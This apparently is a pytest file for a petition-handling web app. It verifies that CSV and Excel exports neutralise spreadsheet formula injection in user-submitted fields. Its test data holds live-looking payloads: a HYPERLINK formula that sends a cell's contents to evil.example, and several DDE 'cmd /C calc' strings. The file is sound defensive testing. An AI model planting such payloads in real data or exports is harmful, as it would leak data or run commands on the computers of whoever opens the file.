"""Exports a petitioner's text can reach (an Open311 key is enough to send a
case): no cell of any CSV or .xlsx export may open as a spreadsheet formula,
on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.api_steps import Driver
from tests.factories import GRID_LEADER

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&C2,"点此查看")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "location": "+1+cmd|' /C calc'!A0",
}
MEASURES = "-2+3+cmd|' /C calc'!A0"
CSV_EXPORTS = (
    "/ledger/export.csv",
    "/lists/problems/export.csv",
    "/lists/responsibilities/export.csv",
    "/lists/rectifications/export.csv",
)
XLSX_EXPORTS = (
    "/ledger/export.xlsx",
    "/lists/problems/export.xlsx",
    "/lists/responsibilities/export.xlsx",
    "/lists/rectifications/export.xlsx",
    "/reports/quarterly/export.xlsx",  # the public notice (公示) lists each case's title
)


def _hostile_case(driver: Driver) -> None:
    case_id = driver.accepted(**HOSTILE)
    driver.act(
        case_id, "plan-rectification", GRID_LEADER, measures=MEASURES, responsible_unit="@物业公司",
        responsible_person="王建国", deadline="2026-03-10",
    )  # fmt: skip


def test_csv_exports_prefix_formula_like_cells_with_a_quote(driver: Driver) -> None:
    _hostile_case(driver)
    for path in CSV_EXPORTS:
        response = driver.client.get(path, params={"wait_for": driver.position})
        assert response.status_code == 200, (path, response.text)
        header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
        assert rows, path
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], path
        assert "'" + HOSTILE["title"] in cells, path
    ledger = driver.client.get("/ledger/export.csv", params={"wait_for": driver.position}).content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(ledger, newline="")))[:2]
    values = dict(zip(header, row, strict=True))
    assert values["诉求内容"] == "'" + HOSTILE["description"] and values["地点"] == "'" + HOSTILE["location"]
    assert values["整改措施"] == "'" + MEASURES and values["责任单位"] == "'@物业公司"
    assert values["退单次数"] == "0"  # a number is not text: no quote


def test_xlsx_exports_write_text_as_text_never_as_a_formula(driver: Driver) -> None:
    _hostile_case(driver)
    for path in XLSX_EXPORTS:
        response = driver.client.get(path, params={"wait_for": driver.position, "period": "2026-Q1"})
        assert response.status_code == 200, (path, response.text)
        book = load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], path
        hostile = [c for c in cells if c.value == HOSTILE["title"]]
        assert hostile, path
        assert all(c.data_type == "s" and c.quotePrefix for c in hostile), path
        if "reports" in path:  # the counts stay numbers
            received = [row[3] for row in book["排名"].iter_rows(min_row=2)]
            assert all(c.data_type == "n" for c in received) and sum(c.value for c in received) == 1

    book = load_workbook(io.BytesIO(driver.client.get("/ledger/export.xlsx").content))
    sheet = book["民情工作台账"]
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    for label, text in (("诉求内容", HOSTILE["description"]), ("地点", HOSTILE["location"]), ("整改措施", MEASURES)):
        assert (row[label].value, row[label].data_type) == (text, "s")
    assert (row["退单次数"].value, row["退单次数"].data_type) == (0, "n")
